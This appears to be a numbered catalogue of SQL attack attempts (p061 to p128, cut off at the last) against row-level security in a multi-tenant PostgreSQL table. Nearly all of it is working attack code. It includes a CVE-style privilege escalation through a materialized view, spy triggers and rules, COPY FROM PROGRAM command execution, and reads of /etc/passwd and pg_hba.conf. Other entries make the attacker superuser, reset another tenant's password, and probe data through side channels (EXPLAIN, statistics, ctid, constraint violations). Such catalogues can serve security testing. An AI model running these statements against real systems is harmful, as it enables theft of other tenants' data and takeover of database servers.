CREATE TEMP VIEW vw AS SELECT * FROM sidemirror.memories;
UPDATE vw SET tenant_id='{own}' WHERE tenant_id::text='{foreign}' RETURNING tenant_id;
DO $$ DECLARE v record; n bigint; BEGIN FOR v IN SELECT c.oid::regclass n FROM pg_class c WHERE relkind='v' AND relnamespace = (SELECT relnamespace FROM pg_class WHERE oid = 'sidemirror.memories'::regclass) LOOP BEGIN EXECUTE format('UPDATE %s SET tenant_id=tenant_id WHERE tenant_id::text=%L', v.n, '{foreign}'); GET DIAGNOSTICS n = ROW_COUNT; RAISE NOTICE '% rows of B through %', n, v.n; EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%: %', v.n, SQLERRM; END; END LOOP; END $$;

-- attempt: p061: materialised views that were filled by the operator
DO $$ DECLARE v record; x text; BEGIN FOR v IN SELECT oid::regclass n FROM pg_class WHERE relkind='m' LOOP BEGIN FOR x IN EXECUTE format('SELECT q::text FROM %s q LIMIT 50', v.n) LOOP RAISE NOTICE '%: %', v.n, x; END LOOP; EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%: %', v.n, SQLERRM; END; END LOOP; END $$;

-- attempt: p062: materialised view made in the schema or public, refreshed
CREATE MATERIALIZED VIEW public.mv AS SELECT * FROM sidemirror.memories;
REFRESH MATERIALIZED VIEW public.mv;
SELECT q::text FROM public.mv q WHERE q.tenant_id::text='{foreign}';
DROP MATERIALIZED VIEW IF EXISTS public.mv;

-- attempt: p063: materialised view with a deferred trigger during REFRESH (CVE-2020-25695 style)
CREATE FUNCTION public.esc() RETURNS text LANGUAGE plpgsql AS $$ BEGIN EXECUTE format('ALTER ROLE %I BYPASSRLS', session_user); RETURN current_user; END $$;
CREATE MATERIALIZED VIEW public.mv2 AS SELECT public.esc() AS x WITH NO DATA;
ALTER MATERIALIZED VIEW public.mv2 OWNER TO owner;
REFRESH MATERIALIZED VIEW public.mv2;
SELECT rolname, rolbypassrls FROM pg_roles WHERE rolname=current_user;
DROP MATERIALIZED VIEW IF EXISTS public.mv2;
DROP FUNCTION IF EXISTS public.esc();

-- attempt: p064: rule on the table that copies what others insert
CREATE RULE copy_out AS ON INSERT TO sidemirror.memories DO ALSO NOTIFY stolen;
CREATE RULE r_all AS ON UPDATE TO sidemirror.memories DO ALSO SELECT * FROM sidemirror.memories;

-- attempt: p065: rule on a temp table that updates the table
CREATE TEMP TABLE lure2 (x int);
CREATE RULE lw AS ON INSERT TO lure2 DO INSTEAD UPDATE sidemirror.memories SET tenant_id='{own}' WHERE tenant_id::text='{foreign}';
INSERT INTO lure2 VALUES (1);

-- attempt: p066: temp table turned to a view by an ON SELECT rule
DO $$ DECLARE cols text; BEGIN SELECT string_agg(format('%I %s', attname, format_type(atttypid, atttypmod)), ',' ORDER BY attnum) INTO cols FROM pg_attribute WHERE attrelid='sidemirror.memories'::regclass AND attnum>0 AND NOT attisdropped; EXECUTE 'CREATE TEMP TABLE asview ('||cols||')'; END $$;
CREATE RULE "_RETURN" AS ON SELECT TO asview DO INSTEAD SELECT * FROM sidemirror.memories;
SELECT q::text FROM asview q WHERE q.tenant_id::text='{foreign}';

-- attempt: p067: trigger on a temp table, deferred, reading as whoever commits
CREATE TEMP TABLE tt (x int);
CREATE FUNCTION pg_temp.trf() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER AS $$ DECLARE r text; BEGIN FOR r IN SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text='{foreign}' LIMIT 20 LOOP RAISE NOTICE '% %', current_user, r; END LOOP; RETURN NULL; END $$;
CREATE CONSTRAINT TRIGGER ct AFTER INSERT ON tt DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION pg_temp.trf();
INSERT INTO tt VALUES (1);

-- attempt: p068: trigger on the table itself, to run as the next tenant that writes
CREATE FUNCTION pg_temp.spy() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM pg_notify('stolen', NEW::text); RETURN NEW; END $$;
CREATE TRIGGER spy_t BEFORE INSERT OR UPDATE ON sidemirror.memories FOR EACH ROW EXECUTE FUNCTION pg_temp.spy();
SELECT has_table_privilege('sidemirror.memories','trigger') AS may_make_triggers;
DROP TRIGGER IF EXISTS spy_t ON sidemirror.memories;

-- attempt: p069: trigger: disable the product's triggers, use existing trigger functions on a temp table
ALTER TABLE sidemirror.memories DISABLE TRIGGER ALL;
DO $$ DECLARE cols text; f record; BEGIN SELECT string_agg(format('%I %s', attname, format_type(atttypid, atttypmod)), ',' ORDER BY attnum) INTO cols FROM pg_attribute WHERE attrelid='sidemirror.memories'::regclass AND attnum>0 AND NOT attisdropped; EXECUTE 'CREATE TEMP TABLE trg_host ('||cols||')'; FOR f IN SELECT oid, oid::regproc::text n FROM pg_proc WHERE prorettype='trigger'::regtype AND prosecdef AND pronamespace <> 'pg_catalog'::regnamespace LOOP BEGIN EXECUTE format('CREATE TRIGGER %I BEFORE INSERT ON trg_host FOR EACH ROW EXECUTE FUNCTION %s()', 'x'||f.oid, f.n); EXECUTE format('INSERT INTO trg_host(tenant_id) VALUES (%L)', '{foreign}'); RAISE NOTICE 'ran % on own table', f.n; EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%: %', f.n, SQLERRM; END; END LOOP; END $$;

-- attempt: p070: COPY the table TO STDOUT
COPY sidemirror.memories TO STDOUT;

-- attempt: p071: COPY a query TO STDOUT, with row_security off
SET row_security=off;
COPY (SELECT * FROM sidemirror.memories) TO STDOUT;
COPY sidemirror.memories TO STDOUT WITH (FORMAT csv);

-- attempt: p072: COPY TO a server file and back
COPY sidemirror.memories TO '/tmp/stolen.csv';
CREATE TEMP TABLE back (l text);
COPY back FROM '/tmp/stolen.csv';
SELECT * FROM back LIMIT 20;

-- attempt: p073: COPY TO PROGRAM
COPY (SELECT 1) TO PROGRAM 'id';

-- attempt: p074: COPY FROM PROGRAM
CREATE TEMP TABLE prog (l text);
COPY prog FROM PROGRAM 'id';
SELECT * FROM prog;

-- attempt: p075: COPY FROM a server file: passwd and pg_hba.conf
CREATE TEMP TABLE fl (l text);
COPY fl FROM '/etc/passwd';
COPY fl FROM 'pg_hba.conf';
SELECT * FROM fl LIMIT 5;

-- attempt: p076: COPY FROM into the table with B's tenant id
COPY sidemirror.memories (tenant_id) FROM PROGRAM 'echo {foreign}';
COPY sidemirror.memories (tenant_id) FROM '/dev/null' WHERE tenant_id::text = '{foreign}';

-- attempt: p077: CREATE ROLE IN ROLE of tenant B, then SET ROLE
CREATE ROLE made1 LOGIN IN ROLE {foreign_role};
SET ROLE made1;
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;
RESET ROLE;
DROP ROLE IF EXISTS made1;

-- attempt: p078: CREATE ROLE with BYPASSRLS or SUPERUSER
CREATE ROLE made2 BYPASSRLS;
CREATE ROLE made3 SUPERUSER;
CREATE ROLE made4 IN ROLE owner ROLE current_user;
SET ROLE made2;
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;
RESET ROLE;
DROP ROLE IF EXISTS made2, made3, made4;

-- attempt: p079: CREATE ROLE with the predefined roles
CREATE ROLE made5 IN ROLE pg_read_all_data, pg_write_all_data, pg_read_server_files, pg_execute_server_program;
GRANT pg_read_all_data TO CURRENT_USER;
GRANT pg_execute_server_program TO CURRENT_USER;
GRANT pg_monitor TO CURRENT_USER;
SELECT rolname FROM pg_roles WHERE pg_has_role(current_user, oid, 'member');
DROP ROLE IF EXISTS made5;

-- attempt: p080: GRANT B's role and the operator's role to self
GRANT {foreign_role} TO CURRENT_USER;
GRANT owner TO CURRENT_USER WITH ADMIN OPTION;
SET ROLE {foreign_role};
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;

-- attempt: p081: GRANT on the tables to self and PUBLIC
GRANT ALL ON sidemirror.memories TO CURRENT_USER;
GRANT ALL ON ALL TABLES IN SCHEMA sidemirror TO PUBLIC;
GRANT CREATE, USAGE ON SCHEMA sidemirror TO CURRENT_USER;
SELECT relname, relacl FROM pg_class WHERE oid='sidemirror.memories'::regclass;

-- attempt: p082: ALTER DEFAULT PRIVILEGES for the operator
ALTER DEFAULT PRIVILEGES FOR ROLE owner IN SCHEMA sidemirror GRANT ALL ON TABLES TO PUBLIC;
ALTER DEFAULT PRIVILEGES FOR ROLE {foreign_role} GRANT ALL ON TABLES TO PUBLIC;

-- attempt: p083: ALTER DEFAULT PRIVILEGES for self with functions run by others
ALTER DEFAULT PRIVILEGES GRANT EXECUTE ON FUNCTIONS TO PUBLIC;
ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT ALL ON TABLES TO {foreign_role};
SELECT * FROM pg_default_acl;

-- attempt: p084: ALTER ROLE self to BYPASSRLS, SUPERUSER, CREATEROLE, REPLICATION
ALTER ROLE CURRENT_USER BYPASSRLS;
ALTER ROLE CURRENT_USER SUPERUSER;
ALTER ROLE CURRENT_USER CREATEROLE;
ALTER ROLE CURRENT_USER REPLICATION;
SELECT rolname, rolsuper, rolbypassrls, rolcreaterole, rolreplication FROM pg_roles WHERE rolname=current_user;

-- attempt: p085: ALTER ROLE B: a new password, no login
ALTER ROLE {foreign_role} PASSWORD 'x';
ALTER ROLE {foreign_role} SET search_path = public;
ALTER ROLE {foreign_role} NOLOGIN;

-- attempt: p086: tables of the schema with no row security at all
DO $$ DECLARE r record; x text; BEGIN FOR r IN SELECT c.oid::regclass n FROM pg_class c WHERE c.relkind IN ('r','p') AND NOT c.relrowsecurity AND c.relnamespace NOT IN ('pg_catalog'::regnamespace,'information_schema'::regnamespace,'pg_toast'::regnamespace) LOOP BEGIN FOR x IN EXECUTE format('SELECT q::text FROM %s q LIMIT 50', r.n) LOOP RAISE NOTICE '%: %', r.n, x; END LOOP; EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%: %', r.n, SQLERRM; END; END LOOP; END $$;

-- attempt: p087: tables of the schema with no row security, written
DO $$ DECLARE r record; n bigint; BEGIN FOR r IN SELECT c.oid::regclass n, a.attname FROM pg_class c JOIN pg_attribute a ON a.attrelid=c.oid AND a.attname='tenant_id' WHERE c.relkind IN ('r','p') AND c.relnamespace = (SELECT relnamespace FROM pg_class WHERE oid = 'sidemirror.memories'::regclass) LOOP BEGIN EXECUTE format('UPDATE %s SET tenant_id=tenant_id WHERE tenant_id::text=%L', r.n, '{foreign}'); GET DIAGNOSTICS n = ROW_COUNT; RAISE NOTICE '%: % rows of B updated', r.n, n; EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%: %', r.n, SQLERRM; END; END LOOP; END $$;

-- attempt: p088: pg_stats: most common values of the table
SELECT attname, n_distinct, most_common_vals, most_common_freqs, histogram_bounds FROM pg_stats WHERE (quote_ident(schemaname)||'.'||quote_ident(tablename))::regclass = 'sidemirror.memories'::regclass;
SELECT schemaname, tablename, attname, most_common_vals::text FROM pg_stats WHERE schemaname NOT IN ('pg_catalog','information_schema');

-- attempt: p089: pg_statistic and pg_statistic_ext_data directly
SELECT starelid::regclass, staattnum, stavalues1::text FROM pg_statistic WHERE starelid='sidemirror.memories'::regclass;
SELECT * FROM pg_statistic_ext_data;

-- attempt: p090: pg_stats_ext and pg_stats_ext_exprs (CVE-2024-4317)
SELECT * FROM pg_stats_ext;
SELECT * FROM pg_stats_ext_exprs;
SELECT m.* FROM pg_statistic_ext, pg_statistic_ext_data, pg_mcv_list_items(stxdmcv) m WHERE stxoid = pg_statistic_ext.oid;

-- attempt: p091: CREATE STATISTICS on the table, then analyse
CREATE STATISTICS pg_temp.st (mcv) ON tenant_id, project_id FROM sidemirror.memories;
ANALYZE sidemirror.memories;
SELECT * FROM pg_stats_ext;

-- attempt: p092: ANALYZE with own function reached by an expression statistic on a temp copy
CREATE TEMP TABLE ct AS SELECT g x FROM generate_series(1,50) g;
CREATE FUNCTION pg_temp.ix(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RAISE NOTICE 'as % session %', current_user, session_user; RETURN $1; END $$;
CREATE STATISTICS pg_temp.sx ON (pg_temp.ix(x)) FROM ct;
CREATE INDEX ON ct (pg_temp.ix(x));
ANALYZE ct;

-- attempt: p093: pg_class: reltuples, relpages of every table and index
SELECT oid::regclass, reltuples, relpages FROM pg_class WHERE relnamespace = (SELECT relnamespace FROM pg_class WHERE oid = 'sidemirror.memories'::regclass) ORDER BY 1;

-- attempt: p094: relation size functions
SELECT pg_relation_size('sidemirror.memories'), pg_total_relation_size('sidemirror.memories'), pg_indexes_size('sidemirror.memories'), pg_relation_size('sidemirror.job_envelopes');
SELECT c.oid::regclass, pg_total_relation_size(c.oid) FROM pg_class c WHERE c.relnamespace = (SELECT relnamespace FROM pg_class WHERE oid = 'sidemirror.memories'::regclass) AND c.relkind IN ('r','i','p');

-- attempt: p095: pg_stat_user_tables: live rows, inserts, updates of all tenants
SELECT relname, n_live_tup, n_dead_tup, n_tup_ins, n_tup_upd, n_tup_del, seq_scan, idx_scan, last_autoanalyze FROM pg_stat_user_tables;
SELECT * FROM pg_stat_user_indexes;

-- attempt: p096: index by index: sizes of partial or per-tenant indexes and partitions
SELECT i.indexrelid::regclass, pg_get_indexdef(i.indexrelid), c.reltuples, pg_stat_get_numscans(i.indexrelid) FROM pg_index i JOIN pg_class c ON c.oid=i.indexrelid WHERE i.indrelid IN ('sidemirror.memories'::regclass,'sidemirror.job_envelopes'::regclass);
SELECT inhrelid::regclass, pg_get_expr(c.relpartbound, c.oid), c.reltuples FROM pg_inherits JOIN pg_class c ON c.oid=inhrelid;

-- attempt: p097: pg_stat_activity: queries and application names of other roles
SELECT pid, usename, application_name, client_addr, state, query_start, query FROM pg_stat_activity WHERE usename <> current_user OR usename IS NULL;
SELECT * FROM pg_stat_get_activity(NULL);

-- attempt: p098: pg_stat_activity: how many sessions each tenant has
SELECT usename, count(*) FROM pg_stat_activity GROUP BY 1;
SELECT usesysid, pid, application_name, backend_type FROM pg_stat_activity WHERE usename = '{foreign_role}';

-- attempt: p099: pg_locks: what B touches, advisory keys and relations
SELECT l.pid, a.usename, l.locktype, l.relation::regclass, l.mode, l.classid, l.objid, l.transactionid, l.virtualxid FROM pg_locks l LEFT JOIN pg_stat_activity a USING (pid) WHERE l.pid <> pg_backend_pid();

-- attempt: p100: pg_stat_statements and pg_prepared_statements, prepared transactions
SELECT userid::regrole, calls, rows, query FROM pg_stat_statements;
SELECT * FROM pg_prepared_xacts;
SELECT * FROM pg_prepared_statements;
SELECT * FROM pg_cursors;

-- attempt: p101: pg_roles, rolconfig and pg_db_role_setting: every tenant's role and binding
SELECT rolname, rolconfig FROM pg_roles WHERE rolconfig IS NOT NULL OR rolname = '{foreign_role}';
SELECT setdatabase, setrole::regrole, setconfig FROM pg_db_role_setting;
SELECT rolname, shobj_description(oid,'pg_authid') FROM pg_roles;

-- attempt: p102: how many tenants there are, from the roles
SELECT count(*) FROM pg_roles WHERE rolcanlogin;
SELECT r.rolname, m.member::regrole FROM pg_auth_members m JOIN pg_roles r ON r.oid=m.roleid;

-- attempt: p103: policies, defaults, constraints and comments that hold tenant ids
SELECT tablename, policyname, roles, cmd, permissive, qual, with_check FROM pg_policies;
SELECT conrelid::regclass, pg_get_constraintdef(oid) FROM pg_constraint WHERE connamespace = (SELECT relnamespace FROM pg_class WHERE oid = 'sidemirror.memories'::regclass);
SELECT adrelid::regclass, pg_get_expr(adbin, adrelid) FROM pg_attrdef;
SELECT objoid, description FROM pg_description WHERE objoid >= 16384;

-- attempt: p104: EXPLAIN row estimates for B's id
EXPLAIN SELECT * FROM sidemirror.memories WHERE tenant_id = '{foreign}';
EXPLAIN SELECT * FROM sidemirror.memories WHERE tenant_id = '{own}';
EXPLAIN SELECT * FROM sidemirror.memories;

-- attempt: p105: EXPLAIN ANALYZE: Rows Removed by Filter in a sequential scan
SET enable_indexscan=off;
SET enable_bitmapscan=off;
SET enable_indexonlyscan=off;
SET max_parallel_workers_per_gather=0;
EXPLAIN (ANALYZE, VERBOSE, BUFFERS) SELECT * FROM sidemirror.memories;

-- attempt: p106: EXPLAIN ANALYZE: Rows Removed by Filter with B's id as index condition
SET enable_seqscan=off;
EXPLAIN (ANALYZE, VERBOSE, BUFFERS) SELECT * FROM sidemirror.memories WHERE tenant_id = '{foreign}';
SET enable_indexscan=off;
EXPLAIN (ANALYZE, BUFFERS) SELECT * FROM sidemirror.memories WHERE tenant_id = '{foreign}';

-- attempt: p107: EXPLAIN ANALYZE: contents by bisection on any leakproof comparison
SET enable_seqscan=off;
DO $$ DECLARE c record; l text; BEGIN FOR c IN SELECT a.attname FROM pg_attribute a WHERE a.attrelid='sidemirror.memories'::regclass AND a.attnum>0 AND a.atttypid IN ('text'::regtype,'varchar'::regtype,'uuid'::regtype) LOOP FOR i IN 1..7 LOOP BEGIN FOR l IN EXECUTE format('EXPLAIN (ANALYZE, COSTS OFF, TIMING OFF, SUMMARY OFF) SELECT 1 FROM sidemirror.memories WHERE tenant_id = %L AND %I >= %L', '{foreign}', c.attname, to_hex(i)||CASE WHEN i>=0 THEN '0000000-0000-0000-0000-000000000000' END) LOOP IF l ~ 'Removed|actual' THEN RAISE NOTICE '% >= %: %', c.attname, to_hex(i), l; END IF; END LOOP; EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%', SQLERRM; END; END LOOP; END LOOP; END $$;

-- attempt: p108: EXPLAIN: endpoint probing by the planner, times of the newest row of all tenants
DO $$ DECLARE c text; l text; d int; BEGIN FOR c IN SELECT attname FROM pg_attribute WHERE attrelid='sidemirror.job_envelopes'::regclass AND attnum>0 AND atttypid IN ('timestamptz'::regtype,'timestamp'::regtype) LOOP FOREACH d IN ARRAY ARRAY[0,1,10,60,600,3600,86400,864000] LOOP FOR l IN EXECUTE format('EXPLAIN SELECT * FROM sidemirror.job_envelopes WHERE %I > now() - %s * interval ''1 second''', c, d) LOOP IF l ~ 'rows=' THEN RAISE NOTICE '% % s: %', c, d, l; END IF; END LOOP; END LOOP; END LOOP; END $$;

-- attempt: p109: EXPLAIN (GENERIC_PLAN), SETTINGS and BUFFERS: cost of the policy, shared hits as a measure
EXPLAIN (ANALYZE, BUFFERS, SETTINGS, WAL, FORMAT JSON) SELECT count(*) FROM sidemirror.job_envelopes;
EXPLAIN (GENERIC_PLAN) SELECT * FROM sidemirror.memories WHERE tenant_id = $1;

-- attempt: p110: plan printing to the client: policy quals with their constants
SET client_min_messages=log;
SET debug_print_plan=on;
SET debug_print_rewritten=on;
SET debug_pretty_print=on;
SELECT count(*) FROM sidemirror.memories;

-- attempt: p111: ctid gaps: the number of rows between own rows
SELECT ctid, xmin, xmax, tableoid::regclass FROM sidemirror.memories ORDER BY ctid LIMIT 100;
SELECT max((ctid::text::point)[0]) AS last_block, count(*) AS mine, pg_relation_size('sidemirror.memories')/8192 AS blocks FROM sidemirror.memories;

-- attempt: p112: ctid fetch of each tuple by number
SELECT t.ctid, t::text FROM sidemirror.memories t WHERE t.ctid = ANY (SELECT format('(%s,%s)', b, i)::tid FROM generate_series(0,20) b, generate_series(1,100) i) AND t.tenant_id::text <> '{own}';

-- attempt: p113: currtid2: tuple existence past row security
DO $$ DECLARE b int; x text; BEGIN FOR b IN 0..40 LOOP BEGIN SELECT currtid2('sidemirror.memories', format('(%s,1)', b)::tid)::text INTO x; RAISE NOTICE 'block %: %', b, x; EXCEPTION WHEN OTHERS THEN RAISE NOTICE 'block %: %', b, SQLERRM; END; END LOOP; END $$;

-- attempt: p114: EXPLAIN ANALYZE of a TID range scan: other tenants' tuples per block
EXPLAIN (ANALYZE, COSTS OFF) SELECT * FROM sidemirror.memories WHERE ctid >= '(0,0)' AND ctid < '(1,0)';
EXPLAIN (ANALYZE, COSTS OFF) SELECT * FROM sidemirror.memories WHERE ctid >= '(1,0)' AND ctid < '(100,0)';

-- attempt: p115: tableoid: go to partitions and children by name
SELECT DISTINCT tableoid::regclass FROM sidemirror.memories;
DO $$ DECLARE r record; x text; BEGIN FOR r IN SELECT inhrelid::regclass n FROM pg_inherits JOIN pg_class c ON c.oid=inhrelid WHERE c.relkind IN ('r','p') LOOP BEGIN FOR x IN EXECUTE format('SELECT q::text FROM %s q LIMIT 50', r.n) LOOP RAISE NOTICE '%: %', r.n, x; END LOOP; EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%: %', r.n, SQLERRM; END; END LOOP; END $$;

-- attempt: p116: toast tables read directly
DO $$ DECLARE n text; x text; BEGIN SELECT reltoastrelid::regclass::text INTO n FROM pg_class WHERE oid='sidemirror.memories'::regclass; FOR x IN EXECUTE format('SELECT encode(chunk_data,''escape'') FROM %s LIMIT 10', n) LOOP RAISE NOTICE '%', x; END LOOP; EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%', SQLERRM; END $$;

-- attempt: p117: xmin and commit times: gaps tell of other tenants' transactions
SELECT xmin, count(*) FROM sidemirror.job_envelopes GROUP BY 1 ORDER BY xmin::text::bigint DESC LIMIT 20;
SELECT pg_xact_commit_timestamp(xmin) FROM sidemirror.job_envelopes LIMIT 5;
SELECT pg_current_xact_id(), pg_current_snapshot();

-- attempt: p118: unique violation as an oracle: own rows' keys set to guesses, integers
DO $$ DECLARE n int := 0; BEGIN FOR g IN 1..300 LOOP BEGIN INSERT INTO sidemirror.memories OVERRIDING SYSTEM VALUE SELECT (jsonb_populate_record(t, (SELECT jsonb_object_agg(a.attname, g) FROM pg_index i JOIN pg_attribute a ON a.attrelid=i.indrelid AND a.attnum=ANY(i.indkey) WHERE i.indrelid='sidemirror.memories'::regclass AND i.indisprimary AND a.attname NOT IN ('tenant_id','project_id')))).* FROM sidemirror.memories t LIMIT 1; RAISE EXCEPTION 'undo'; EXCEPTION WHEN unique_violation THEN n := n+1; RAISE NOTICE 'id % is taken: %', g, SQLERRM; WHEN OTHERS THEN IF g < 3 THEN RAISE NOTICE '%', SQLERRM; END IF; END; END LOOP; RAISE NOTICE '% taken', n; END $$;
SELECT t.tenant_id, count(*) FROM sidemirror.memories t GROUP BY 1;

-- attempt: p119: unique violation: the detail text carries the key of another tenant
DO $$ DECLARE d text; BEGIN FOR g IN 1..200 LOOP BEGIN INSERT INTO sidemirror.job_envelopes OVERRIDING SYSTEM VALUE SELECT (jsonb_populate_record(t, (SELECT jsonb_object_agg(a.attname, g) FROM pg_index i JOIN pg_attribute a ON a.attrelid=i.indrelid AND a.attnum=ANY(i.indkey) WHERE i.indrelid='sidemirror.job_envelopes'::regclass AND i.indisprimary AND a.attname NOT IN ('tenant_id','project_id')))).* FROM sidemirror.job_envelopes t LIMIT 1; RAISE EXCEPTION 'undo'; EXCEPTION WHEN unique_violation THEN GET STACKED DIAGNOSTICS d = PG_EXCEPTION_DETAIL; RAISE NOTICE '%: %', g, d; WHEN OTHERS THEN NULL; END; END LOOP; END $$;

-- attempt: p120: unique violation through UPDATE of an own row to a guessed project id
DO $$ DECLARE d text; BEGIN FOR g IN 1..100 LOOP BEGIN EXECUTE format('UPDATE sidemirror.memories SET project_id = %L WHERE ctid = (SELECT ctid FROM sidemirror.memories LIMIT 1)', g); RAISE EXCEPTION 'undo'; EXCEPTION WHEN unique_violation OR foreign_key_violation THEN GET STACKED DIAGNOSTICS d = PG_EXCEPTION_DETAIL; RAISE NOTICE '%: % %', g, SQLERRM, d; WHEN OTHERS THEN RAISE NOTICE '%: %', g, SQLERRM; END; END LOOP; END $$;

-- attempt: p121: foreign key as an oracle: which project ids exist in all tenants
DO $$ BEGIN FOR g IN 1..100 LOOP BEGIN INSERT INTO sidemirror.memories OVERRIDING SYSTEM VALUE SELECT (jsonb_populate_record(t, (SELECT coalesce(jsonb_object_agg(a.attname, CASE WHEN a.atttypid IN (20,21,23) THEN to_jsonb(900000000+(random()*99999)::int) ELSE to_jsonb(gen_random_uuid()) END), jsonb_build_object()) FROM pg_index i JOIN pg_attribute a ON a.attrelid=i.indrelid AND a.attnum=ANY(i.indkey) WHERE i.indrelid='sidemirror.memories'::regclass AND i.indisunique AND a.attname NOT IN ('tenant_id','project_id') AND a.atttypid IN (20,21,23,25,1043,2950)) || jsonb_build_object('project_id', g))).* FROM sidemirror.memories t LIMIT 1; RAISE EXCEPTION 'undo, project % is there', g; EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%: % %', g, SQLSTATE, SQLERRM; END; END LOOP; END $$;

-- attempt: p122: foreign key to the table from a table of one's own (REFERENCES privilege)
CREATE TABLE public.fkprobe (x text);
DO $$ DECLARE c record; BEGIN FOR c IN SELECT a.attname, format_type(a.atttypid,a.atttypmod) ty FROM pg_constraint k JOIN pg_attribute a ON a.attrelid=k.conrelid AND a.attnum=k.conkey[1] WHERE k.conrelid='sidemirror.memories'::regclass AND k.contype IN ('p','u') AND cardinality(k.conkey)=1 LOOP BEGIN EXECUTE format('CREATE TABLE public.fkp2 (x %s REFERENCES sidemirror.memories (%I))', c.ty, c.attname); RAISE NOTICE 'can reference %', c.attname; EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%', SQLERRM; END; END LOOP; END $$;
SELECT has_table_privilege('sidemirror.memories','references');
DROP TABLE IF EXISTS public.fkprobe, public.fkp2;

-- attempt: p123: foreign key that locks B's parent row: FOR KEY SHARE taken past row security
BEGIN;
DO $$ BEGIN INSERT INTO sidemirror.memories OVERRIDING SYSTEM VALUE SELECT (jsonb_populate_record(t, (SELECT coalesce(jsonb_object_agg(a.attname, CASE WHEN a.atttypid IN (20,21,23) THEN to_jsonb(900000000+(random()*99999)::int) ELSE to_jsonb(gen_random_uuid()) END), jsonb_build_object()) FROM pg_index i JOIN pg_attribute a ON a.attrelid=i.indrelid AND a.attnum=ANY(i.indkey) WHERE i.indrelid='sidemirror.memories'::regclass AND i.indisunique AND a.attname NOT IN ('tenant_id','project_id') AND a.atttypid IN (20,21,23,25,1043,2950)) || jsonb_build_object('tenant_id','{foreign}'))).* FROM sidemirror.memories t LIMIT 1; EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%', SQLERRM; END $$;
DO $$ BEGIN INSERT INTO sidemirror.memories OVERRIDING SYSTEM VALUE SELECT (jsonb_populate_record(t, (SELECT coalesce(jsonb_object_agg(a.attname, CASE WHEN a.atttypid IN (20,21,23) THEN to_jsonb(900000000+(random()*99999)::int) ELSE to_jsonb(gen_random_uuid()) END), jsonb_build_object()) FROM pg_index i JOIN pg_attribute a ON a.attrelid=i.indrelid AND a.attnum=ANY(i.indkey) WHERE i.indrelid='sidemirror.memories'::regclass AND i.indisunique AND a.attname NOT IN ('tenant_id','project_id') AND a.atttypid IN (20,21,23,25,1043,2950)) || jsonb_build_object())).* FROM sidemirror.memories t LIMIT 1; EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%', SQLERRM; END $$;
SELECT pid, locktype, relation::regclass, mode FROM pg_locks WHERE pid=pg_backend_pid();
SELECT pg_sleep(0.2);
ROLLBACK;

-- attempt: p124: foreign key cascade: change an own parent so that a child of B follows
DO $$ DECLARE k record; BEGIN FOR k IN SELECT conrelid::regclass ch, confrelid::regclass pa, confdeltype, confupdtype, pg_get_constraintdef(oid) d FROM pg_constraint WHERE contype='f' AND (confdeltype IN ('c','n','d') OR confupdtype IN ('c','n','d')) LOOP RAISE NOTICE '% -> % %', k.ch, k.pa, k.d; BEGIN EXECUTE format('UPDATE %s SET tenant_id=%L WHERE tenant_id::text=%L', k.pa, '{foreign}', '{own}'); RAISE EXCEPTION 'undo: cascade from % is open', k.pa; EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%', SQLERRM; END; END LOOP; END $$;

-- attempt: p125: check and not-null violations whose detail prints the failing row
UPDATE sidemirror.memories SET project_id = NULL WHERE tenant_id::text = '{foreign}';
DO $$ DECLARE d text; BEGIN UPDATE sidemirror.memories SET tenant_id = NULL; EXCEPTION WHEN OTHERS THEN GET STACKED DIAGNOSTICS d = PG_EXCEPTION_DETAIL; RAISE NOTICE '% / %', SQLERRM, d; END $$;

-- attempt: p126: exclusion and uniqueness: ON CONFLICT DO NOTHING as a silent oracle
DO $$ DECLARE n int; BEGIN FOR g IN 1..200 LOOP BEGIN INSERT INTO sidemirror.memories OVERRIDING SYSTEM VALUE SELECT (jsonb_populate_record(t, (SELECT jsonb_object_agg(a.attname, g) FROM pg_index i JOIN pg_attribute a ON a.attrelid=i.indrelid AND a.attnum=ANY(i.indkey) WHERE i.indrelid='sidemirror.memories'::regclass AND i.indisprimary AND a.attname NOT IN ('tenant_id','project_id')))).* FROM sidemirror.memories t LIMIT 1 ON CONFLICT DO NOTHING; GET DIAGNOSTICS n = ROW_COUNT; RAISE EXCEPTION 'undo % rows', n; EXCEPTION WHEN OTHERS THEN IF SQLERRM LIKE 'undo 0%' THEN RAISE NOTICE 'id % is taken', g; END IF; END; END LOOP; END $$;

-- attempt: p127: ON CONFLICT DO UPDATE onto a row of B
DO $$ DECLARE g int; x text; BEGIN FOR g IN 1..100 LOOP BEGIN EXECUTE format('INSERT INTO sidemirror.memories OVERRIDING SYSTEM VALUE SELECT (jsonb_populate_record(t, jsonb_build_object(''id'', %s))).* FROM sidemirror.memories t LIMIT 1 ON CONFLICT (id) DO UPDATE SET tenant_id = %L RETURNING sidemirror.memories.tenant_id::text', g, '{own}') INTO x; RAISE NOTICE '%: %', g, x; RAISE EXCEPTION 'undo'; EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%: %', g, SQLERRM; END; END LOOP; END $$;

-- attempt: p128: ON CONFLICT DO UPDATE with EXCLUDED and RETURNING the old row
